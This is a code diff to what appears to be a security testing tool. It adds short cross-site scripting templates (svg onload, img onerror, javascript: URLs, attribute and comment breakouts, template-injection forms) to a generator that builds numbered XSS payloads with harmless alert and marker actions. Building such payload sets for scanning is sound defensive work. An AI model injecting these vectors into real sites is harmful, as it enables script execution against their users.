@@ -60,6 +60,30 @@ const TEMPLATES: ((js: string) => string)[] = [
   (js) => `<object type="text/html" data="data:text/html;base64,${Buffer.from(`<script>parent.${js}</script>`).toString('base64')}"></object>`,
 ];
 
+/** Short forms, so that fields of 40–50 characters also take 100 or more payloads. */
+const SHORT_TEMPLATES: ((js: string) => string)[] = [
+  (js) => `<svg onload=${js}>`,
+  (js) => `<img src=x onerror=${js}>`,
+  (js) => `<svg/onload=${js}>`,
+  (js) => `<body onload=${js}>`,
+  (js) => `<script>${js}</script>`,
+  (js) => `javascript:${js}`,
+  (js) => `"><svg onload=${js}>`,
+  (js) => `'><svg onload=${js}>`,
+  (js) => `<details open ontoggle=${js}>`,
+  (js) => `<input autofocus onfocus=${js}>`,
+  (js) => `{{${js}}}`,
+  (js) => `\${${js}}`,
+  (js) => `" onfocus=${js} autofocus "`,
+  (js) => `<iframe src=javascript:${js}>`,
+  (js) => `<a href=javascript:${js}>x</a>`,
+  (js) => `<video src=x onerror=${js}>`,
+  (js) => `</script><svg onload=${js}>`,
+  (js) => `<marquee onstart=${js}>`,
+  (js) => `<b onmouseover=${js}>x</b>`,
+  (js) => `--><svg onload=${js}>`,
+];
+
 const ACTIONS: ((n: number) => string)[] = [
   (n) => `alert(${n})`,
   (n) => `window.__yzXss=${n}`,
@@ -68,12 +92,13 @@ const ACTIONS: ((n: number) => string)[] = [
 ];
 
 
-/** Every template with the first two actions, then confirm/prompt variants: ≥ 100 payloads. */
+/** Every template with the first two actions, confirm/prompt variants, and short forms: 180 payloads. */
 export function xssPayloads(): Payload[] {
   const out: Payload[] = [];
   let n = 1000;
   for (const action of ACTIONS.slice(0, 2)) for (const template of TEMPLATES) out.push({ n, text: `xss${n}${template(action(n++))}` });
   for (const action of ACTIONS.slice(2)) for (const template of TEMPLATES.slice(0, 8)) out.push({ n, text: `xss${n}${template(action(n++))}` });
+  for (const action of [ACTIONS[0], ACTIONS[2], ACTIONS[3]]) for (const template of SHORT_TEMPLATES) out.push({ n, text: `xss${n}${template(action(n++))}` });
   return out;
 }
 
